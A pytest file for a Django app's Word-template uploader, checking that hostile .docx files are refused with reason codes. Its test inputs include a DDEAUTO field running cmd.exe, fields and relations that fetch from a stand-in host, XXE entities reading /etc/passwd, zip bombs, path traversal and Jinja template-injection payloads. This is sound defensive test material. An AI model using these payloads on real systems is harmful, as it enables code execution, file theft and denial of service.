"""Word templates: an office's own letters fill; whatever else hides in a .docx is refused with its reason."""

import io
import zipfile
from collections.abc import Callable
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import DatabaseError, connection, transaction
from django.test import Client
from docx import Document as Word

from electcoord.common.errors import RuleError
from electcoord.ledger.models import Entry
from electcoord.ledger.verification import verify
from electcoord.papers import content as contents
from electcoord.papers import layouts, render, storage, word_templates
from electcoord.papers.ledger_actions import TemplateAction
from electcoord.papers.models import DocumentKind, WordTemplate
from electcoord.regions.models import Region
from tests.cast import HULU, KABUPATEN, Cast
from tests.papers.test_documents import FIRST

Sign = Callable[[str | None], Client]
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
RELS = "word/_rels/document.xml.rels"
DOC = "word/document.xml"


def word(*lines: str, header: str = "", title: str = "") -> bytes:
    paper = Word()
    for line in lines:
        paper.add_paragraph(line)
    if header:
        paper.sections[0].header.paragraphs[0].text = header
    paper.core_properties.title = title
    target = io.BytesIO()
    paper.save(target)
    return target.getvalue()


PLAIN = word("Nomor {{ nomor }}")


def repacked(change: dict[str, bytes | Callable[[bytes], bytes]], plain: bytes = PLAIN) -> bytes:
    """The plain template with entries changed or added."""
    old = zipfile.ZipFile(io.BytesIO(plain))
    parts = {name: old.read(name) for name in old.namelist()}
    for name, new in change.items():
        parts[name] = new(parts[name]) if callable(new) else new
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return target.getvalue()


def related(kind: str, target: str, mode: str = "External") -> bytes:
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    relation = f'<Relationship Id="rX" Type="{base}/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
    return repacked({RELS: lambda old: old.replace(b"</Relationships>", relation.encode())})


def inside(xml: str) -> bytes:
    return repacked({DOC: lambda old: old.replace(b"<w:sectPr", f"{xml}<w:sectPr".encode(), 1)})


def field(code: str) -> bytes:
    half = len(code) // 2
    run = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    for piece in (code[:half], code[half:]):
        run += f"<w:r><w:instrText>{piece}</w:instrText></w:r>"
    return inside(f'<w:p>{run}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')


def twice() -> bytes:
    target = io.BytesIO(PLAIN)
    with zipfile.ZipFile(target, "a") as package:
        package.writestr("Word/Document.xml", b"<x/>")
    return target.getvalue()


def locked() -> bytes:
    content = bytearray(PLAIN)
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(mark)
        while at >= 0:
            content[at + place] |= 1
            at = content.find(mark, at + 4)
    return bytes(content)


def many() -> bytes:
    return repacked({f"word/x{number}.xml": b"<x/>" for number in range(250)})


LAUGHS = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "haha"><!ENTITY b "&a;&a;">]><l>&b;</l>'
OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a SYSTEM "file:///etc/passwd">]><l>&a;</l>'
UTF16 = '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE l [<!ENTITY a "x">]><l>&a;</l>'.encode("utf-16")
MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOTX = "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"


def typed(kind: str) -> bytes:
    return repacked({"[Content_Types].xml": lambda old: old.replace(MAIN.encode(), kind.encode())})


HOSTILE: dict[str, tuple[str, Callable[[], bytes]]] = {
    "nothing": ("bukan_docx", lambda: b""),
    "a program": ("bukan_docx", lambda: b"MZ\x90\x00" + b"\x00" * 100),
    "an old .doc": ("bukan_docx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600),
    "rich text": ("bukan_docx", lambda: b"{\\rtf1 {\\object}}"),
    "a page of the web": ("bukan_docx", lambda: b"<html><script>alert(1)</script>"),
    "a torn archive": ("rusak", lambda: PLAIN[: len(PLAIN) // 2]),
    "an archive of something else": (
        "bukan_docx",
        lambda: repacked({DOC: b"<x/>", "[Content_Types].xml": b"<Types/>"}),
    ),
    "a macro document": ("makro", lambda: typed(MACROS)),
    "a template document": ("bukan_docx", lambda: typed(DOTX)),
    "a macro project": ("tertanam", lambda: repacked({"word/vbaProject.bin": b"x"})),
    "an embedded workbook": ("tertanam", lambda: repacked({"word/embeddings/a.xlsx": b"x"})),
    "an embedded program": ("tertanam", lambda: repacked({"word/embeddings/oleObject1.bin": b"x"})),
    "an ActiveX control": ("tertanam", lambda: repacked({"word/activeX/activeX1.xml": b"<x/>"})),
    "a ribbon of its own": ("tertanam", lambda: repacked({"customUI/customUI.xml": b"<x/>"})),
    "a metafile": ("tertanam", lambda: repacked({"word/media/a.wmf": b"x"})),
    "an attached template": ("luar", lambda: related("attachedTemplate", "https://jahat.example/t.dotm")),
    "a template on a share": ("luar", lambda: related("attachedTemplate", "\\\\jahat\\t.dotm", "Internal")),
    "a picture from outside": ("luar", lambda: related("image", "http://jahat.example/a.png")),
    "a link outwards": ("luar", lambda: related("hyperlink", "https://jahat.example")),
    "a file of the machine": ("luar", lambda: related("image", "file:///etc/passwd", "Internal")),
    "an OLE relation": ("tertanam", lambda: related("oleObject", "media/x.xml", "Internal")),
    "a chunk of another format": ("tertanam", lambda: related("aFChunk", "x.xml", "Internal")),
    "a chunk element": ("tertanam", lambda: inside("<w:altChunk/>")),
    "an object element": ("tertanam", lambda: inside("<w:p><w:r><w:object/></w:r></w:p>")),
    "a subdocument": ("tertanam", lambda: inside("<w:subDoc/>")),
    "a field that runs": ("kolom", lambda: field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"')),
    "a field that fetches": ("kolom", lambda: field(' INCLUDETEXT "http://jahat.example"')),
    "a field that shows a file": ("kolom", lambda: inside('<w:p><w:fldSimple w:instr="INCLUDEPICTURE x"/></w:p>')),
    "entities that grow": ("entitas", lambda: repacked({"word/styles.xml": LAUGHS})),
    "an entity from outside": ("entitas", lambda: repacked({DOC: OUTSIDE})),
    "entities in other letters": ("aksara", lambda: repacked({"word/styles.xml": UTF16})),
    "broken XML": ("rusak", lambda: repacked({"word/styles.xml": b"<x><y></x>"})),
    "a bomb": ("besar", lambda: repacked({"word/a.xml": b" " * (9 * 1024 * 1024)})),
    "a greater bomb": ("besar", lambda: repacked({"word/a.xml": b" " * (40 * 1024 * 1024)})),
    "many entries": ("banyak", many),
    "two of one name": ("ganda", twice),
    "a locked archive": ("sandi", locked),
    "a way out": ("nama", lambda: repacked({"../../etc/cron.d/x.xml": b"<x/>"})),
    "a way to the root": ("nama", lambda: repacked({"/etc/x.xml": b"<x/>"})),
    "an unknown field": ("isian", lambda: word("{{ sandi_admin }} {{ nomor }}")),
    "a field in the head": ("isian", lambda: word("x", header="{{ rahasia }}")),
    "a field in the properties": ("isian", lambda: word("x", title="{{ rahasia }}")),
    "settings of the server": ("isian", lambda: word("{{ settings.SECRET_KEY }}")),
    "half a field": ("isian_rusak", lambda: word("{{ nomor ")),
    "half a loop": ("isian_rusak", lambda: word("{% for x in isi %}{{ x }}")),
    "classes of a text": ("ungkapan", lambda: word("{{ ''.__class__.__mro__[1].__subclasses__() }}")),
    "a class by its name": ("ungkapan", lambda: word("{{ nomor['__class__'] }}")),
    "a class by a filter": ("ungkapan", lambda: word("{{ nomor|attr('__class__') }}")),
    "a class in pieces": ("ungkapan", lambda: word("{{ nomor['__cl' ~ 'ass__'] }}")),
    "a call": ("ungkapan", lambda: word("{{ nomor.format(1) }}")),
    "a global": ("ungkapan", lambda: word("{{ cycler.__init__.__globals__ }}")),
    "an endless count": ("ungkapan", lambda: word("{% for i in range(999999999) %}x{% endfor %}")),
    "a great power": ("ungkapan", lambda: word("{{ 9 ** 9 ** 9 }}")),
    "a great text": ("ungkapan", lambda: word("{{ 'x' * 999999999 }}")),
    "an import": ("ungkapan", lambda: word("{% import 'os' as os %}")),
    "another file": ("ungkapan", lambda: word("{% include '/etc/passwd' %}")),
    "a macro of jinja": ("ungkapan", lambda: word("{% macro m() %}{{ m() }}{% endmacro %}")),
    "a changed value": ("ungkapan", lambda: word("{% set x = nomor %}{{ x }}")),
    "unescaped text": ("ungkapan", lambda: word("{{ nomor|safe }}")),
    "loops in loops": (
        "ungkapan",
        lambda: word("".join(f"{{% for a{i} in isi %}}" for i in range(5)) + "x" + "{% endfor %}" * 5),
    ),
}


@pytest.mark.once
@pytest.mark.parametrize(("code", "make"), HOSTILE.values(), ids=HOSTILE.keys())
def test_a_hostile_file_is_refused_with_its_reason(code: str, make: Callable[[], bytes]) -> None:
    with pytest.raises(word_templates.TemplateRefused) as refusal:
        word_templates.check(make())
    assert refusal.value.code == code, str(refusal.value)
    assert str(refusal.value) and "%(" not in str(refusal.value)


@pytest.mark.once
def test_unknown_fields_are_named() -> None:
    with pytest.raises(RuleError, match="bupati, sandi_admin"):
        word_templates.check(word("{{ sandi_admin }} {{ bupati }} {{ nomor }}"))


@pytest.mark.once
def test_what_is_too_large_is_not_even_opened() -> None:
    with pytest.raises(RuleError, match="lebih besar dari 5 MB"):
        word_templates.check(b"x" * (word_templates.MAX_BYTES + 1))


@pytest.mark.once
@pytest.mark.parametrize("kind", ["Und", "BA"])
def test_the_shipped_template_is_taken_and_fills(kind: str) -> None:
    whole = word_templates.default(kind)
    assert {"kop", "nomor", "isi", "tanda_tangan"} <= set(word_templates.check(whole))
    content = contents.check(
        FIRST | {
            "nomor": "1/x", "pembuka": ["{{ nomor.__class__ }} & <b>"], "tanda_tangan": [{"jabatan": "Ketua", "nama": "A"}],
            "blok": [layouts.paragraph("Satu"), layouts.points(["Dua"]), layouts.pairs([["Tempat", "Aula"]])],
        }
    )  # fmt: skip
    paper = Word(io.BytesIO(render.from_word(whole, word_templates.fields_of(content))))
    told = "\n".join(paragraph.text for paragraph in paper.paragraphs)
    assert "{{ nomor.__class__ }} & <b>" in told, "what is filled in is text, never run again"
    assert "Satu" in told and "1. Dua" in told and "Tempat\t: Aula" in told
    assert "Ketua" in " ".join(cell.text for table in paper.tables for row in table.rows for cell in row.cells)


@pytest.mark.once
def test_a_word_that_no_template_knows_is_a_mistake_of_the_caller() -> None:
    with pytest.raises(ValueError):
        word_templates.fill(PLAIN, {"apa": 1})


@pytest.mark.once
def test_a_filler_that_dies_is_told_in_words(monkeypatch: Any) -> None:
    monkeypatch.setattr(word_templates, "_run", lambda folder, deed: None)
    with pytest.raises(word_templates.TemplateRefused, match="terlalu berat"):
        word_templates.check(PLAIN)


@pytest.fixture
def _unlooked(monkeypatch: Any) -> None:
    monkeypatch.setattr(word_templates, "check", lambda content: ["nomor"])


def upload(cast: Cast, content: bytes = PLAIN, region: str = KABUPATEN) -> WordTemplate:
    kind = DocumentKind.objects.get(code="Und")
    place = Region.objects.get(pk=region)
    return word_templates.upload(content, kind=kind, region=place, name="Undangan", actor=cast.actor("staf"))


@pytest.mark.usefixtures("_unlooked")
def test_the_newest_version_in_use_is_the_one(cast: Cast) -> None:
    assert word_templates.template_for("Und", HULU) is None
    first, second = upload(cast), upload(cast, word("lain"))
    assert (first.number, second.number) == (1, 2)
    assert word_templates.template_for("Und", HULU) == second, "a PPK uses its kabupaten's"
    assert word_templates.template_for("Und", "9902") is word_templates.template_for("BA", KABUPATEN) is None
    word_templates.activate(second, active=False, actor=cast.actor("staf"))
    assert word_templates.template_for("Und", KABUPATEN) == first
    word_templates.activate(second, active=True, actor=cast.actor("staf"))
    assert word_templates.template_for("Und", KABUPATEN) == second
    assert word_templates.file_of(first) == PLAIN
    with pytest.raises(RuleError, match="per kabupaten"):
        upload(cast, region=HULU)
    told = Entry.objects.filter(action__in=TemplateAction.values).order_by("pk")
    assert [action.rpartition(".")[2] for action in told.values_list("action", flat=True)] == [
        "uploaded", "uploaded", "retired", "activated"
    ]  # fmt: skip
    assert {TemplateAction.RETIRED, TemplateAction.ACTIVATED} < set(told.values_list("action", flat=True))
    assert verify()[0] is None
    storage.path_of(storage.ORIGINAL, first.sha256).write_bytes(b"lain")
    assert "templat" in str(verify()[0])
    with pytest.raises(RuleError, match="hilang atau berubah"):
        word_templates.file_of(first)


@pytest.mark.usefixtures("_unlooked")
@pytest.mark.parametrize(
    "attack",
    [
        "DELETE FROM papers_wordtemplate", "UPDATE papers_wordtemplate SET sha256 = 'ab'",
        "UPDATE papers_wordtemplate SET placeholders = '[]'", "UPDATE papers_wordtemplate SET number = 9",
    ],
)  # fmt: skip
def test_the_database_keeps_what_was_uploaded(cast: Cast, attack: str) -> None:
    upload(cast)
    with pytest.raises(DatabaseError), transaction.atomic(), connection.cursor() as cursor:
        cursor.execute(attack)


def test_staff_upload_download_and_retire_in_the_admin(cast: Cast, as_person: Sign) -> None:
    client, kind = as_person("staf"), DocumentKind.objects.get(code="Und")
    url = "/admin/papers/wordtemplate/"
    assert "/bawaan/Und/" in client.get(url).content.decode()
    shipped = client.get(f"{url}bawaan/Und/")
    content = b"".join(shipped.streaming_content)
    assert shipped["Content-Disposition"] == 'attachment; filename="templat-Und.docx"'
    assert 'enctype="multipart/form-data"' in client.get(f"{url}add/").content.decode()

    def send(content: bytes | None, region: str = KABUPATEN) -> Any:
        sent: dict[str, Any] = {"kind": kind.pk, "region": region, "name": "Undangan rapat"}
        if content is not None:
            sent["berkas"] = SimpleUploadedFile("a.docx", content)
        return client.post(f"{url}add/", sent)

    for bad, reason in (
        (None, "Pilih berkas"), (b"MZ", "bukan dokumen Word"), (word("{{ rahasia }}"), "tidak dikenal: rahasia"),
        (b"x" * (5 * 1024 * 1024 + 1), "lebih besar dari 5 MB"),
    ):  # fmt: skip
        response = send(bad)
        assert response.status_code == 200
        assert reason in response.content.decode()
    assert not WordTemplate.objects.exists()
    assert send(content).status_code == 302
    row = WordTemplate.objects.get()
    response = client.get(f"{url}{row.pk}/berkas/")
    assert b"".join(response.streaming_content) == content
    assert response["X-Content-Type-Options"] == "nosniff" and "sandbox" in response["Content-Security-Policy"]
    assert client.post(f"{url}{row.pk}/change/", {}).status_code == 200, "an empty form takes nothing out of use"
    assert WordTemplate.objects.get().is_active
    assert client.post(f"{url}{row.pk}/change/", {"is_active": "False"}).status_code == 302
    assert not WordTemplate.objects.get().is_active
    assert client.get(f"{url}bawaan/ZZ/").status_code == client.get(f"{url}99/berkas/").status_code == 404
    assert as_person("pengelola").get(f"{url}bawaan/Und/").status_code == 403
    assert as_person("pengelola").get(f"{url}{row.pk}/berkas/").status_code == 403
    assert send(content, "9902").status_code in (200, 403), "another regency is not offered"
    assert WordTemplate.objects.count() == 1
